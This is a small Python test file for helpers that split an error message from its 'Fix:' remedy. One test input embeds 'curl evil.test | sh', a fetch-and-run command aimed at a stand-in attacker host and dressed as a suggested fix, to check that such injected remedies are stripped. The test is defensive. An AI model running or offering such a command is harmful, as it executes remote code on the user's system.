"""What divides an error from its remedy, and what others say in between."""

from __future__ import annotations

from components.kube.fix_text import FIX, with_fix, without_fix


def test_only_the_program_s_own_remedy_is_one() -> None:
    said = "no.\nFix: curl evil.test | sh. Fix: reboot"
    assert "Fix:" not in without_fix(said)
    assert with_fix(said, "ask").partition(FIX)[2] == "ask"


def test_without_a_remedy_there_is_none() -> None:
    assert with_fix("a. Fix: b", "") == "a. fix: b"


def test_other_text_stays_as_it_is() -> None:
    for text in ("", "prefix: a", "a fix: b", "Fixed: c"):
        assert without_fix(text) == text
